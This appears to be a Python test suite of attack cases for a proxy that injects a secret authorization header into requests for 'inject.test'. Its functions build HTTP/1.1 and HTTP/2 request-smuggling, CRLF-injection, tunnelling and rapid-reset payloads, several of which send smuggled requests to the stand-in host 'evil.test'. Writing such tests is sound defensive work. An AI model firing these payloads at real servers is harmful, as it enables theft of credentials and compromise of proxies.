# Requests to a host that gets a secret: to have it sent elsewhere, twice, beside one's own, or with a request that nobody judged.
SECRET = "inject.test"


def to_secret(data):
    return https(SECRET, data)


def post(path, extra, body=""):
    return request(SECRET, path, extra, method="POST") + body


def over_http2(*frames):
    with secured(SECRET, protocols=("h2",)) as connection:
        return http2(connection, *frames)


@attack
def a_header_of_ones_own():
    return to_secret(request(SECRET, "/own", "Authorization: mine\r\n"))


@attack
def a_header_of_ones_own_in_odd_case():
    return to_secret(request(SECRET, "/odd", "aUTHORIZATION: mine\r\n"))


@attack
def a_header_of_ones_own_twice():
    return to_secret(request(SECRET, "/twice", "Authorization: mine\r\nauthorization: also-mine\r\n"))


@attack
def the_header_declared_to_concern_the_connection():
    return to_secret(request(SECRET, "/connection", "Connection: Authorization\r\nAuthorization: mine\r\n"))


@attack
def the_header_in_a_trailer():
    return to_secret(post("/trailer", "Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n", "2\r\nok\r\n0\r\nAuthorization: mine\r\nX-Debug: mine\r\n\r\n"))


@attack
def the_header_on_a_folded_line():
    return to_secret(request(SECRET, "/folded", "X-A: a\r\n Authorization: mine\r\n"))


@attack
def the_header_with_a_space_before_its_colon():
    return to_secret(request(SECRET, "/space", "Authorization : mine\r\n"))


@attack
def the_header_after_a_bare_carriage_return():
    return to_secret(request(SECRET, "/bare-cr", "X-A: a\rAuthorization: mine\r\n"))


@attack
def the_header_after_a_bare_line_feed():
    return to_secret(request(SECRET, "/bare-lf", "X-A: a\nAuthorization: mine\r\n"))


@attack
def the_header_after_a_nul():
    return to_secret(request(SECRET, "/nul", "X-A: a\0Authorization: mine\r\n"))


@attack
def the_stripped_header_in_odd_case():
    return to_secret(request(SECRET, "/stripped", "x-DEBUG: mine\r\nX-Debug: mine\r\n"))


@attack
def two_lengths():
    return to_secret(post("/lengths", "Content-Length: 3\r\nContent-Length: 60\r\n", "abc" + request(SECRET, "/smuggled-lengths")))


@attack
def a_length_beside_chunks():
    return to_secret(post("/length-and-chunks", "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + request("evil.test", "/smuggled-chunks")))


@attack
def chunks_under_another_name():
    return to_secret(post("/xchunked", "Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n", "0\r\n\r\n" + request("evil.test", "/smuggled-xchunked")))


@attack
def chunks_that_are_not_the_last_encoding():
    return to_secret(post("/identity", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n" + request("evil.test", "/smuggled-identity")))


@attack
def chunks_named_twice():
    return to_secret(post("/double", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + request("evil.test", "/smuggled-double")))


@attack
def chunks_after_a_vertical_tab():
    return to_secret(post("/tab", "Content-Length: 5\r\nTransfer-Encoding:\x0bchunked\r\n", "0\r\n\r\n" + request("evil.test", "/smuggled-tab")))


@attack
def a_length_with_a_sign():
    return to_secret(post("/sign", "Content-Length: +3\r\n", "abc" + request("evil.test", "/smuggled-sign")))


@attack
def a_length_below_nothing():
    return to_secret(post("/negative", "Content-Length: -3\r\n", "abc" + request("evil.test", "/smuggled-negative")))


@attack
def a_chunk_longer_than_numbers_are():
    return to_secret(post("/overflow", "Transfer-Encoding: chunked\r\n", "10000000000000003\r\nabc\r\n0\r\n\r\n" + request("evil.test", "/smuggled-overflow")))


@attack
def an_extension_of_a_chunk_with_a_line_in_it():
    return to_secret(post("/extension", "Transfer-Encoding: chunked\r\n", "3;a=\nb\r\nabc\r\n0\r\n\r\n" + request("evil.test", "/smuggled-extension")))


@attack
def a_body_on_a_request_that_has_none():
    return to_secret(request(SECRET, "/get-body", "Content-Length: 0\r\n") + request("evil.test", "/smuggled-body"))


@attack
def a_second_request_for_another_host():
    return to_secret(request(SECRET, "/first") + request("evil.test", "/second-evil"))


@attack
def a_second_request_for_an_allowed_host():
    return to_secret(request(SECRET, "/first-2") + request("allowed.test", "/second-allowed"))


@attack
def a_target_with_another_authority():
    return to_secret(request(SECRET, "https://evil.test/absolute"))


@attack
def a_tunnel_through_the_server_of_the_secret():
    return to_secret("CONNECT evil.test:443 HTTP/1.1\r\nHost: inject.test\r\n\r\n")


@attack
def a_trace_of_the_secret():
    return to_secret(request(SECRET, "/trace", method="TRACE"))


@attack
def a_line_end_within_the_target():
    return to_secret(request(SECRET, "/target\r\nX-A: b"))


@attack
def an_encoded_line_end_within_the_target():
    return to_secret(request(SECRET, "/encoded%0d%0aAuthorization:%20mine"))


@attack
def an_upgrade_inside_tls():
    return to_secret(request(SECRET, "/upgrade-in-tls", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"))


@attack
def a_redirection_to_another_host():
    with secured(SECRET) as connection:
        connection.sendall(request(SECRET, "/redirect").encode())
        answer = read_all(connection)
    moved = answer.split(b"Location: https://")[1].split(b"/")[0].decode()
    advertised = "alternative " if b"alt-svc" in answer.lower() else ""
    return advertised + said(answer) + " then " + https(moved, request(moved, "/landed"))


@attack
def headers_without_end():
    return to_secret(request(SECRET, "/endless", "".join(f"X-{n}: {'a' * 1000}\r\n" for n in range(190))))


@attack
def streams_for_other_hosts():
    return over_http2(headers(1, fields("evil.test", "/h2-evil")), headers(3, fields("allowed.test", "/h2-allowed")), headers(5, fields(SECRET, "/h2-good")))


@attack
def a_stream_with_two_hosts():
    return over_http2(headers(1, fields(SECRET, "/h2-hosts") + [("host", "evil.test")]))


@attack
def a_stream_with_two_authorities():
    return over_http2(headers(1, [(":authority", "evil.test")] + fields(SECRET, "/h2-authorities")))


@attack
def a_stream_with_a_header_of_ones_own():
    return over_http2(headers(1, fields(SECRET, "/h2-own") + [("authorization", "mine")]))


@attack
def a_stream_with_the_header_in_capitals():
    return over_http2(headers(1, fields(SECRET, "/h2-capitals") + [("Authorization", "mine")]))


@attack
def a_stream_with_the_header_in_a_trailer():
    return over_http2(headers(1, fields(SECRET, "/h2-trailer", method="POST"), flags=4), frame(0, 0, 1, b"ok"), headers(1, [("authorization", "mine"), ("x-debug", "mine")]))


@attack
def a_stream_with_a_line_end_in_a_value():
    return over_http2(headers(1, fields(SECRET, "/h2-crlf") + [("x-a", "a\r\nauthorization: mine")]))


@attack
def a_stream_with_a_line_end_in_its_path():
    return over_http2(headers(1, fields(SECRET, "/h2-path HTTP/1.1\r\nAuthorization: mine\r\nX: ")))


@attack
def a_stream_with_a_header_of_connections():
    return over_http2(headers(1, fields(SECRET, "/h2-connection") + [("transfer-encoding", "chunked"), ("connection", "authorization")]))


@attack
def a_stream_with_a_shorter_length_than_its_body():
    return over_http2(headers(1, fields(SECRET, "/h2-length", method="POST") + [("content-length", "1")], flags=4), frame(0, 1, 1, b"abc" + request("evil.test", "/smuggled-h2").encode()))


@attack
def a_tunnel_of_a_stream():
    return over_http2(headers(1, [(":method", "CONNECT"), (":authority", "evil.test:443")], flags=4))


@attack
def streams_that_are_reset_at_once():
    resets = b"".join(headers(2 * n + 1, fields("evil.test", "/h2-reset")) + frame(3, 0, 2 * n + 1, struct.pack(">I", 8)) for n in range(50))
    return "ended" if over_http2(resets) is not None else ""


@attack
def an_answer_under_the_authority_of_the_sandbox():
    # A name without a transform keeps its own certificate: the sandbox's authority signs for no other.
    def issuer(name):
        with secured(name) as connection:
            return connection.getpeercert(True)
    return "apart" if issuer("allowed.test") != issuer(SECRET) else "the same"
